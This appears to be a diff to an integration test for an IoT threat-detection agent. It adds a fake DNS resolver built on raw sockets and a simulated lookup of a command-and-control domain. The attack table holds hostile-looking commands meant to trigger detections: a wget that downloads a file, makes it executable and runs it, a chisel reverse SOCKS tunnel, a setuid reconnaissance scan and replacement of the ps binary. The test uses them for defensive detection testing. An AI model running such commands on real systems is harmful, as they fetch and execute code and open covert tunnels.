@@ -9,6 +9,7 @@ import asyncio
 import ctypes
 import json
 import os
+import select
 import shutil
 import signal
 import socket
@@ -38,12 +39,15 @@ pytestmark = [
 ]
 
 CLONE_NEWNET = 0x40000000
+ETH_IP = 0x0800
+DNS_PORT, NO_SUCH_NAME = (53).to_bytes(2), b"\x81\x83"
 PORTS = ("--mqtt-port", "8883", "--https-port", "8443")
 WEB, LISTENER = 8080, 4444
 MARK = f"vedette-attack-{os.getpid()}"
 
 TWIN = (
     "CollectorsCore_PriorityIntervals=0.05,0.1,0.2",  # 3, 6 and 12 s
+    "DNS_MessageFrequency=High",
     "FileSystem_Paths=/home/watched",
     "FileSystem_MessageFrequency=High",
     "NetworkActivity_Devices=eth0",
@@ -61,7 +65,8 @@ STUBS = (
 """Programs that do nothing here, whatever they are told."""
 
 BEACON = "192.0.2.129"
-LISTED = ("127.0.0.66", "192.0.2.128/25")
+RESOLVER = "192.0.2.53"
+LISTED = ("127.0.0.66", "192.0.2.128/25", "bad.example")
 """What the hub is told to be bad, while it runs."""
 
 ATTACKS = {
@@ -84,6 +89,7 @@ ATTACKS = {
         f"busybox wget -q -O /tmp/{MARK} http://127.0.0.1:{WEB}/x; chmod +x /tmp/{MARK}; /tmp/{MARK}"
     ),
     "IoT_LinuxReconnaissance": "busybox find / -maxdepth 1 -perm -4000",
+    "IoT_MaliciousNameQueriesDetection": f"busybox nslookup c2.bad.example {RESOLVER}",
     "IoT_OverridingCommonFiles": "cp /usr/bin/true /usr/local/bin/ps",
     "IoT_PortForwarding": "chisel client 127.0.0.1:443 R:socks",
     "IoT_PossibleMalware": "busybox wget -q -O /dev/null http://127.0.0.66:81/mips",
@@ -127,12 +133,55 @@ def private_network() -> Iterator[None]:
             "link set eth0 up",
             "link set other up",
             f"neigh add {BEACON} lladdr 02:00:00:00:00:01 dev eth0",
+            f"neigh add {RESOLVER} lladdr 02:00:00:00:00:02 dev eth0",
         ):
             subprocess.run(["ip", *change.split()], check=True)
-        yield
+        with resolver("other"):
+            yield
     finally:
         assert libc.setns(home, CLONE_NEWNET) == 0
         os.close(home)
+
+
+@contextmanager
+def resolver(interface: str) -> Iterator[None]:
+    """Somebody on the wire who says of every name that it does not exist."""
+    done, end = socket.socketpair()
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire, done:
+        wire.bind((interface, ETH_IP))
+        answering = threading.Thread(target=deny_names, args=[wire, done])
+        answering.start()
+        try:
+            yield
+        finally:
+            end.close()
+            answering.join()
+
+
+def deny_names(wire: socket.socket, done: socket.socket) -> None:
+    """Send questions back as answers, until the other end of `done` is closed.
+
+    Addresses and ports are exchanged, which leaves the checksum of IPv4 as it is.
+    """
+    while done not in select.select([wire, done], [], [])[0]:
+        frame = wire.recv(2048)
+        ethernet, ip, udp, dns = frame[:14], frame[14:34], frame[34:42], frame[42:]
+        if ip[0] == 0x45 and ip[9] == socket.IPPROTO_UDP and udp[2:4] == DNS_PORT and dns:
+            wire.send(
+                ethernet[6:12]
+                + ethernet[:6]
+                + ethernet[12:]
+                + ip[:12]
+                + ip[16:20]
+                + ip[12:16]
+                + udp[2:4]
+                + udp[:2]
+                + udp[4:6]
+                + b"\0\0"
+                + dns[:2]
+                + NO_SUCH_NAME
+                + dns[4:]
+            )
 
 
 class Device:
